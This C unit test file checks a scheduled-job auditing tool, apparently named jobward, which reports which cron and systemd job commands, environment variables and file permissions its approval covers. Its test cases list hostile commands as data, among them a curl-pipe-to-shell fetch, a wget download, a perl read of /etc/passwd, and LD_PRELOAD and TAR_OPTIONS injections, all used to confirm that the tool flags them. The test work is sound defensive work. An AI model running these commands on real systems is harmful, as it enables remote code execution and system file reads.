// SPDX-License-Identifier: GPL-2.0
/* What an approval covers and what it can't: each finding beside the same job without its cause. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include "lib/coverage.h"
#include "lib/pins.h"
#include "scratch.h"

static struct jw_coverage coverage;

/* A job of cron with this command and one variable. */
static struct jw_job make_job(const char *command, const char *env)
{
	struct jw_job job = { .scheduler = JOBWARD_SCHEDULER_CRON, .uid = 0, .command = strdup(command),
			      .path = strdup("/etc/cron.d/x") };
	struct jw_exec *exec = jw_job_add_exec(&job);

	assert_int_equal(jw_exec_set_argv(exec, "/bin/sh", "-c", command, NULL), 0);
	exec->env = calloc(2, sizeof(*exec->env));
	exec->env[0] = strdup(env ? env : "PATH=/usr/bin:/bin");
	return job;
}

static void add_pin(struct jw_job *job, const char *path, bool present, const char *package)
{
	job->pins = realloc(job->pins, (job->n_pins + 1) * sizeof(*job->pins));
	job->pins[job->n_pins++] = (struct jw_pin){ .path = strdup(path), .present = present, .unmodified = package,
						    .package = package ? strdup(package) : NULL };
}

static const struct jw_coverage_note *find_in(const struct jw_coverage_note *v, size_t n, enum jw_coverage_kind kind,
					      const char *subject)
{
	for (size_t i = 0; i < n; i++)
		if (v[i].kind == kind && (!subject || !strcmp(v[i].subject, subject)))
			return &v[i];
	return NULL;
}

static const struct jw_coverage_note *limit(enum jw_coverage_kind kind, const char *subject)
{
	return find_in(coverage.limits, coverage.n_limits, kind, subject);
}

static const struct jw_coverage_note *covers(enum jw_coverage_kind kind, const char *subject)
{
	return find_in(coverage.covers, coverage.n_covers, kind, subject);
}

/* Takes the job over. */
static void find(struct jw_job job)
{
	jw_coverage_done(&coverage);
	assert_int_equal(jw_coverage_find(&job, &coverage), 0);
	jw_job_done(&job);
}

static void test_commands(void **state)
{
	/* A NULL subject: no limit at all. */
	static const struct { const char *command; enum jw_coverage_kind kind; const char *subject, *words; } cases[] = {
		{ "/usr/bin/backup --all", 0, NULL, NULL },
		{ "tar czf /backup/x.tgz .", 0, NULL, NULL },
		{ "tar czf /backup/x.tgz *", JW_LIMIT_PATTERN, "*", "begins with '-'" },
		{ "cd /var/www && chown www-data *.php", JW_LIMIT_PATTERN, "*.php", "begins with '-'" },
		{ "rm -f /var/tmp/cache-*", JW_LIMIT_PATTERN, "/var/tmp/cache-*", "only known when the job runs" },
		{ "tar czf /backup/x.tgz '*'", 0, NULL, NULL },
		{ "$HOME/bin/x", JW_LIMIT_COMPUTED, "$HOME/bin/x", "only known" },
		{ "/usr/bin/backup \"$HOME\"", 0, NULL, NULL },
		{ "python3 -c 'import os; os.system(\"id\")'", JW_LIMIT_CODE, "python3", "to the letter" },
		{ "nice perl -lane 'print $F[0]' /etc/passwd", JW_LIMIT_CODE, "perl", "to the letter" },
		{ "python3 /opt/x.py -c", JW_LIMIT_CODE, "python3", "" },
		{ "python3 /opt/x.py --conf", 0, NULL, NULL },
		{ "curl -s http://192.0.2.1/x | sh", JW_LIMIT_NETWORK, "curl", "not on this host" },
		{ "curl -s http://192.0.2.1/x | sh", JW_LIMIT_COMPUTED, "sh", "only known" },
		{ "sudo wget -q http://192.0.2.1/x", JW_LIMIT_NETWORK, "wget", "not on this host" },
		{ "sh -c 'curl x | bash'", JW_LIMIT_NETWORK, "curl", "not on this host" },
		{ "echo curl wget", 0, NULL, NULL },
	};

	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		const struct jw_coverage_note *found;

		find(make_job(cases[i].command, NULL));
		found = cases[i].subject ? limit(cases[i].kind, cases[i].subject) : NULL;
		if (cases[i].subject ? !found || !strstr(found->text, cases[i].words) : coverage.n_limits != 0)
			fail_msg("'%s': %zu limits, first: %s", cases[i].command, coverage.n_limits,
				 coverage.n_limits ? coverage.limits[0].text : "none");
		assert_non_null(covers(JW_COVERS_COMMAND, cases[i].command));
	}
}

static void test_environment(void **state)
{
	struct jw_job job;

	find(make_job("true", "PATH=/usr/bin"));
	assert_int_equal(coverage.n_limits, 0);
	find(make_job("true", "LANG=C"));
	assert_int_equal(coverage.n_limits, 0);
	find(make_job("true", "LD_PRELOAD=/opt/x.so"));
	assert_non_null(strstr(limit(JW_LIMIT_ENVIRONMENT, "LD_PRELOAD")->text, "the content of what it names is not"));
	job = make_job("true", "BASH_ENV=/opt/rc");
	add_pin(&job, "/opt/rc", true, NULL);
	find(job);
	assert_null(limit(JW_LIMIT_ENVIRONMENT, NULL));
	find(make_job("true", "PERL5OPT="));
	assert_int_equal(coverage.n_limits, 0);
	find(make_job("true", "TAR_OPTIONS=--to-command=/tmp/x"));
	assert_non_null(strstr(limit(JW_LIMIT_ENVIRONMENT, "TAR_OPTIONS")->text, "no part of the approval"));
	/* What a unit's UnsetEnvironment= took away has no name any more. */
	find(make_job("true", "=D_PRELOAD=/opt/x.so"));
	assert_int_equal(coverage.n_limits, 0);
	for (size_t i = 0; i < 4; i++) {
		static const char *const paths[] = { "PATH=/usr/bin:", "PATH=:/usr/bin", "PATH=/usr/bin:bin:/bin", "PATH=" };

		find(make_job("true", paths[i]));
		if (!limit(JW_LIMIT_PATH, paths[i] + 5))
			fail_msg("'%s' is taken for whole paths", paths[i]);
	}
}

static void test_files(void **state)
{
	char program[300], folder[300];
	struct jw_job job = make_job("x", NULL);

	scratch_write("bin/x", "#!/bin/sh\nother\n");
	snprintf(program, sizeof(program), "%s", scratch_path("bin/x"));
	snprintf(folder, sizeof(folder), "%s", scratch_path("bin"));
	chmod(folder, 0755);
	job.uid = getuid();
	add_pin(&job, program, true, NULL);
	add_pin(&job, "/usr/local/bin/x", false, NULL);
	find(job);
	assert_non_null(covers(JW_COVERS_FILE, program));
	assert_non_null(covers(JW_COVERS_ABSENT, "/usr/local/bin/x"));
	assert_non_null(limit(JW_LIMIT_SCRIPT, program));
	assert_null(limit(JW_LIMIT_DIRECTORY, folder));
	/* of a package its package answers for the rest */
	job = make_job("x", NULL);
	job.uid = getuid();
	add_pin(&job, program, true, "x");
	find(job);
	assert_null(limit(JW_LIMIT_SCRIPT, NULL));
	chmod(folder, 0777);
	job = make_job("x", NULL);
	job.uid = getuid();
	add_pin(&job, program, true, "x");
	find(job);
	assert_non_null(strstr(limit(JW_LIMIT_DIRECTORY, folder)->text, "mode 0777"));
	/* sticky: nobody else may replace what is there */
	chmod(folder, 01777);
	job = make_job("x", NULL);
	job.uid = getuid();
	add_pin(&job, program, true, "x");
	find(job);
	assert_null(limit(JW_LIMIT_DIRECTORY, folder));
	chmod(program, 0666);
	job = make_job("x", NULL);
	job.uid = getuid();
	add_pin(&job, program, true, "x");
	find(job);
	assert_non_null(strstr(limit(JW_LIMIT_DIRECTORY, program)->text, "mode 0666"));
	chmod(folder, 0755);
}

/* Another's folder on the way, or one that is reached by a symlink. */
static void test_way(void **state)
{
	char through[300], open_folder[300];
	struct jw_job job;

	scratch_write("open/y", "y");
	scratch_write("tight/none", "");
	snprintf(open_folder, sizeof(open_folder), "%s", scratch_path("open"));
	snprintf(through, sizeof(through), "%s", scratch_path("tight/y"));
	assert_int_equal(symlink("../open/y", through), 0);
	chmod(open_folder, 0777);
	chmod(scratch_path("tight"), 0755);
	job = make_job("y", NULL);
	job.uid = getuid();
	add_pin(&job, through, true, NULL);
	find(job);
	assert_non_null(limit(JW_LIMIT_DIRECTORY, open_folder));
	chmod(open_folder, 0755);
}

static void test_units(void **state)
{
	static const char text[] =
		"# /etc/systemd/system/x.service\n[Unit]\nOnFailure=mail@%n.service\n[Service]\n"
		"EnvironmentFile=-/etc/default/x*\nEnvironmentFile=/etc/default/y\nExecStartPre=/usr/bin/install -d /run/x\n"
		"ExecStart=/usr/bin/python3 -c pass\n";
	struct jw_job job = { .scheduler = JOBWARD_SCHEDULER_SYSTEMD, .command = strdup("/usr/bin/python3 -c pass"),
			      .path = strdup("/etc/systemd/system/x.timer"), .source = strdup(text),
			      .source_len = sizeof(text) - 1 };
	struct jw_exec *exec = jw_job_add_exec(&job);

	exec->program = strdup("/usr/bin/python3");
	assert_int_equal(jw_exec_set_argv(exec, "/usr/bin/python3", "-c", "pass", NULL), 0);
	add_pin(&job, "/etc/default/y", true, NULL);
	find(job);
	assert_non_null(limit(JW_LIMIT_UNIT, "mail@%n.service"));
	assert_non_null(limit(JW_LIMIT_ENVIRONMENT_FILE, "-/etc/default/x*"));
	assert_null(limit(JW_LIMIT_ENVIRONMENT_FILE, "/etc/default/y"));
	assert_non_null(covers(JW_COVERS_EXEC, "/usr/bin/install -d /run/x"));
	assert_null(covers(JW_COVERS_EXEC, "/usr/bin/python3 -c pass"));
	assert_non_null(limit(JW_LIMIT_CODE, "/usr/bin/python3"));
}

static void test_ends(void **state)
{
	struct jw_job job = make_job("echo *", NULL);

	job.unreadable = strdup("its mode is not 0600");
	find(job);
	assert_int_equal(coverage.n_covers + coverage.n_limits, 0);
	job = make_job("true", NULL);
	for (int i = 0; i < JOBWARD_PINS_MAX; i++) {
		char path[32];

		snprintf(path, sizeof(path), "/nowhere/%d", i);
		add_pin(&job, path, false, NULL);
	}
	find(job);
	assert_non_null(limit(JW_LIMIT_NUMBER, NULL));
	for (int i = 0; i < JW_COVERAGE_KINDS; i++)
		assert_non_null(jw_coverage_name(i));
	assert_null(jw_coverage_name(JW_COVERAGE_KINDS));
	jw_coverage_done(&coverage);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_commands),
		cmocka_unit_test(test_environment),
		cmocka_unit_test_setup_teardown(test_files, scratch_set_up, scratch_tear_down),
		cmocka_unit_test_setup_teardown(test_way, scratch_set_up, scratch_tear_down),
		cmocka_unit_test(test_units),
		cmocka_unit_test(test_ends),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
